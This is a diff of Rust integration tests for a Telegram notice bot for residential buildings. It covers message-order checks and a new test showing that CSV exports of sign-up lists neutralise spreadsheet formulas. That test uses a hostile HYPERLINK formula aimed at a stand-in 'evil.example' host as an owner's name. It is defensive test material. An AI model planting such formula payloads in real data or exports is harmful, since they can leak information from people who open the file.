@@ -273,21 +273,38 @@ async fn a_notice_to_one_building_reaches_each_owner_there_once_in_their_languag
             .arg("total", "@")
             .arg("took", "@"),
     );
-    let report_head = report.clone();
     let report = admin.wait(0, "the report", containing(&report)).await;
     assert!(report.body().contains('3'), "{report:?}");
-    // The progress message was edited into the final figures, and a new message says it is over.
-    let deadline = Instant::now() + WAIT;
-    let reports = loop {
-        let reports: Vec<ChatMessage> =
-            admin.emu.bot_messages(admin.id).into_iter().filter(|m| containing(&report_head)(m)).collect();
-        if reports.len() >= 2 || Instant::now() > deadline {
-            break reports;
-        }
-        tokio::time::sleep(Duration::from_millis(20)).await;
+    // What the composer reads follows what happened: one confirmation, then the
+    // progress message (edited to the final figures, without Pause), then one report.
+    let any = |text: Text| {
+        ["kind", "sent", "failed", "blocked", "remaining", "total", "percent", "status", "took"]
+            .into_iter()
+            .fold(text.arg("id", id), |t, arg| t.arg(arg, "@"))
     };
-    assert_eq!(reports.len(), 2, "{reports:?}");
-    assert!(reports.iter().any(|m| m.edited), "{reports:?}");
+    let progress_head = head(&admin, any(Text::new("notice-progress")));
+    let finished = admin.t(Text::new("notice-progress-finished"));
+    admin.wait(0, "the final figures", |m| m.text.as_deref().is_some_and(|t| t.contains(&finished))).await;
+    admin.settle().await;
+    // In the order they arrived (an edit keeps its message's place).
+    let mut after_send: Vec<ChatMessage> =
+        admin.emu.bot_messages(admin.id).into_iter().filter(|m| m.seq > before).collect();
+    after_send.sort_by_key(|m| m.message_id);
+    let sent = admin.t(Text::new("notice-sent").arg("id", id).arg("count", 3usize));
+    let report_head = head(&admin, any(Text::new("notice-report")));
+    let read: Vec<&str> = after_send
+        .iter()
+        .filter_map(|m| match m.text.as_deref() {
+            Some(t) if t == sent => Some("confirmation"),
+            Some(t) if t.starts_with(&progress_head) => Some("progress"),
+            Some(t) if t.starts_with(&report_head) => Some("report"),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(read, ["confirmation", "progress", "report"], "{after_send:#?}");
+    let progress = after_send.iter().find(|m| m.text.as_deref().is_some_and(|t| t.starts_with(&progress_head)));
+    let progress = progress.unwrap();
+    assert!(progress.text.as_deref().unwrap().contains(&finished) && progress.inline_keyboard.is_none());
 
     zhao.settle().await;
     assert_eq!(got(&li, zh), 1, "two units, one notice");
@@ -688,6 +705,41 @@ async fn sign_up_keeps_the_capacity_under_concurrent_presses_and_the_organiser_g
     other.wait(0, "the reminder", containing(&reminder)).await;
     first.settle().await;
     assert!(!first.bot_texts().iter().any(|t| t.contains(&reminder)), "withdrawn: no reminder");
+    app.stop().await;
+}
+
+#[tokio::test]
+async fn a_formula_in_a_name_reaches_the_sign_up_list_as_text_and_phones_stay_text() {
+    let app = TestApp::spawn().await;
+    let link = r#"=HYPERLINK("http://evil.example/?leak","点击查看")"#;
+    let owner = app.owner(1001, link, "1-1-101", "8613800000001").await;
+    // Their phone as Telegram shares it, with the country code.
+    sqlx::query("UPDATE users SET phone = '+8613800000001' WHERE telegram_id = $1")
+        .bind(owner.id)
+        .execute(&app.pool)
+        .await
+        .unwrap();
+    let admin = app.admin().await;
+    let text = "元旦游园会，欢迎报名！";
+    let mut c = Compose::new(NoticeKind::Activity, text);
+    c.signup = Some(None);
+    let id = compose(&app, &admin, c).await;
+    received(&owner, text).await;
+    owner.press_shown(Text::new("btn-notice-signup")).await;
+    until_state(&app, id, "done").await;
+
+    let before = admin.seq();
+    admin.emu.send_text(admin.id, "/notices");
+    admin.expect_containing(before, Text::new("notice-list-head")).await;
+    let before = admin.seq();
+    admin.press_shown(Text::new("btn-notice-csv").arg("id", id)).await;
+    let doc = admin.wait(before, "the CSV", |m| m.document_file_id.is_some()).await;
+    let bytes = admin.emu.file_bytes(doc.document_file_id.as_deref().unwrap()).unwrap();
+    let mut reader = csv::Reader::from_reader(bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a byte-order mark"));
+    let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
+    assert_eq!(rows.len(), 1, "{rows:?}");
+    assert_eq!(rows[0][0], format!("'{link}"), "a leading quote keeps it text in Excel");
+    assert_eq!(rows[0][2], "'+8613800000001", "a phone is not a sum");
     app.stop().await;
 }
 
